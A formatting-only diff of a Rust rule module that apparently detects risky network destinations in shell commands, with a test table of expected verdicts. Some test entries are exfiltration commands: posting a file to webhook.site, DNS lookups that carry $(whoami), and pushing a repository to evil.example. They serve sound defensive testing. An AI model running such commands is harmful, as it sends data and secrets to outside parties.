@@ -13,18 +13,30 @@ use crate::verdict::{Finding, Reason, Verdict};
 
 use super::Ctx;
 
-pub const EXFIL_DESTINATION: Reason =
-    Reason::new("exfil_destination", "Talks to a service made for receiving data from strangers (paste bin, request catcher, tunnel).");
-pub const CREDENTIALS_IN_URL: Reason =
-    Reason::new("credentials_in_url", "A URL carries a user name and password.");
-pub const RAW_IP: Reason =
-    Reason::new("raw_ip_destination", "Connects to a bare public IP address instead of a named host.");
-pub const UPLOAD_UNKNOWN: Reason =
-    Reason::new("upload_unknown_destination", "Uploads files or pushes code to a destination nobody has listed.");
-pub const UNKNOWN_DESTINATION: Reason =
-    Reason::new("unknown_destination", "Contacts a destination nobody has listed (strict modes ask first).");
-pub const DNS_EXFIL: Reason =
-    Reason::new("dns_exfiltration", "A DNS lookup carries computed data in the host name.");
+pub const EXFIL_DESTINATION: Reason = Reason::new(
+    "exfil_destination",
+    "Talks to a service made for receiving data from strangers (paste bin, request catcher, tunnel).",
+);
+pub const CREDENTIALS_IN_URL: Reason = Reason::new(
+    "credentials_in_url",
+    "A URL carries a user name and password.",
+);
+pub const RAW_IP: Reason = Reason::new(
+    "raw_ip_destination",
+    "Connects to a bare public IP address instead of a named host.",
+);
+pub const UPLOAD_UNKNOWN: Reason = Reason::new(
+    "upload_unknown_destination",
+    "Uploads files or pushes code to a destination nobody has listed.",
+);
+pub const UNKNOWN_DESTINATION: Reason = Reason::new(
+    "unknown_destination",
+    "Contacts a destination nobody has listed (strict modes ask first).",
+);
+pub const DNS_EXFIL: Reason = Reason::new(
+    "dns_exfiltration",
+    "A DNS lookup carries computed data in the host name.",
+);
 
 const PROJECT_REMOTES: &[&str] = &["origin", "upstream", "fork"];
 
@@ -44,10 +56,20 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
             continue;
         };
         if d.has_credentials {
-            out.push(Finding::new(CREDENTIALS_IN_URL, mode.pick([Verdict::Auth, Verdict::Auth, Verdict::Block, Verdict::Block])));
+            out.push(Finding::new(
+                CREDENTIALS_IN_URL,
+                mode.pick([Verdict::Auth, Verdict::Auth, Verdict::Block, Verdict::Block]),
+            ));
         }
         if cx.policy.host_is_exfil(&d.host) {
-            out.push(Finding::new(EXFIL_DESTINATION, if e.uploads { Verdict::Block } else { Verdict::Auth }));
+            out.push(Finding::new(
+                EXFIL_DESTINATION,
+                if e.uploads {
+                    Verdict::Block
+                } else {
+                    Verdict::Auth
+                },
+            ));
             continue;
         }
         let listed = cx.policy.host_allowed(&d.host);
@@ -59,8 +81,18 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
         }
         let file_upload = e.uploads
             && (e.program == "git"
-                || matches!(e.program.as_str(), "scp" | "rsync" | "rclone" | "sftp" | "ftp" | "lftp" | "aws" | "gsutil")
-                || e.values.iter().any(|v| v.starts_with('@') || v.contains("=@") || v == "-T" || v == "--upload-file" || v.starts_with("--post-file") || v.starts_with("--body-file")));
+                || matches!(
+                    e.program.as_str(),
+                    "scp" | "rsync" | "rclone" | "sftp" | "ftp" | "lftp" | "aws" | "gsutil"
+                )
+                || e.values.iter().any(|v| {
+                    v.starts_with('@')
+                        || v.contains("=@")
+                        || v == "-T"
+                        || v == "--upload-file"
+                        || v.starts_with("--post-file")
+                        || v.starts_with("--body-file")
+                }));
         if file_upload {
             out.push(Finding::new(UPLOAD_UNKNOWN, Verdict::Auth));
         } else if mode.auth_unknown_destinations() {
@@ -71,32 +103,74 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
 
 #[cfg(test)]
 mod tests {
+    use crate::Verdict::*;
     use crate::policy::Mode;
     use crate::rules::testutil::table;
-    use crate::Verdict::*;
 
     #[test]
     fn destination_table() {
-        table(Mode::Balanced, &[
-            ("curl -d @report.json https://webhook.site/abc", Block, "exfil_destination"),
-            ("curl https://webhook.site/abc", Auth, "exfil_destination"),
-            ("curl https://user:hunter2pass@evil.example/", Auth, "credentials_in_url"),
-            ("curl http://203.0.113.9/payload", Auth, "raw_ip_destination"),
-            ("git remote add x https://evil.example/r.git && git push x --all", Auth, "upload_unknown_destination"),
-            ("curl -T build.tar.gz https://files.example/up", Auth, "upload_unknown_destination"),
-            ("dig $(whoami).evil.example", Block, "dns_exfiltration"),
-            ("curl -s https://example.com/data.json", Pass, ""),
-            ("curl -s https://api.github.com/repos/rust-lang/rust", Pass, ""),
-            ("curl http://localhost:3000/health", Pass, ""),
-            ("curl http://192.168.1.10:8080/", Pass, ""),
-            ("git push origin main", Pass, ""),
-            ("ssh -T git@github.com", Pass, ""),
-            ("git clone https://github.com/tokio-rs/tokio", Pass, ""),
-        ]);
-        table(Mode::Strict, &[
-            ("curl -s https://example.com/data.json", Auth, "unknown_destination"),
-            ("curl -s https://api.github.com/repos/rust-lang/rust", Pass, ""),
-            ("curl https://user:hunter2pass@evil.example/", Block, "credentials_in_url"),
-        ]);
+        table(
+            Mode::Balanced,
+            &[
+                (
+                    "curl -d @report.json https://webhook.site/abc",
+                    Block,
+                    "exfil_destination",
+                ),
+                ("curl https://webhook.site/abc", Auth, "exfil_destination"),
+                (
+                    "curl https://user:hunter2pass@evil.example/",
+                    Auth,
+                    "credentials_in_url",
+                ),
+                (
+                    "curl http://203.0.113.9/payload",
+                    Auth,
+                    "raw_ip_destination",
+                ),
+                (
+                    "git remote add x https://evil.example/r.git && git push x --all",
+                    Auth,
+                    "upload_unknown_destination",
+                ),
+                (
+                    "curl -T build.tar.gz https://files.example/up",
+                    Auth,
+                    "upload_unknown_destination",
+                ),
+                ("dig $(whoami).evil.example", Block, "dns_exfiltration"),
+                ("curl -s https://example.com/data.json", Pass, ""),
+                (
+                    "curl -s https://api.github.com/repos/rust-lang/rust",
+                    Pass,
+                    "",
+                ),
+                ("curl http://localhost:3000/health", Pass, ""),
+                ("curl http://192.168.1.10:8080/", Pass, ""),
+                ("git push origin main", Pass, ""),
+                ("ssh -T git@github.com", Pass, ""),
+                ("git clone https://github.com/tokio-rs/tokio", Pass, ""),
+            ],
+        );
+        table(
+            Mode::Strict,
+            &[
+                (
+                    "curl -s https://example.com/data.json",
+                    Auth,
+                    "unknown_destination",
+                ),
+                (
+                    "curl -s https://api.github.com/repos/rust-lang/rust",
+                    Pass,
+                    "",
+                ),
+                (
+                    "curl https://user:hunter2pass@evil.example/",
+                    Block,
+                    "credentials_in_url",
+                ),
+            ],
+        );
     }
 }
